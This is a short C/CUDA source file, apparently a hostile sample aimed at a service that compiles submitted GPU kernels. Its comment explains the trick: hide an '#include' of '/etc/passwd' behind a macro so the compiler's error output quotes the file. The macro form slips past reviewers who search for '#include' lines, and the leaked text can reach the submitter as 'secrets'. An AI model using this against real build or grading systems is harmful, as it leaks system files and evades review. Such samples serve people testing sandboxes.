/* Includes a file of the machine's that is no C: the compiler's complaint quotes it.
 * The name is a macro, so that nobody finds it by reading lines that begin with #include.
 * Attacks: files are read from the folder alone (kernels.md), and what the
 * compiler says is kept and may travel. Gains: secrets. */
#define THERE "/etc/passwd"
#include THERE

static __device__ void body(const Job &j)
{
	multiply(j);
}
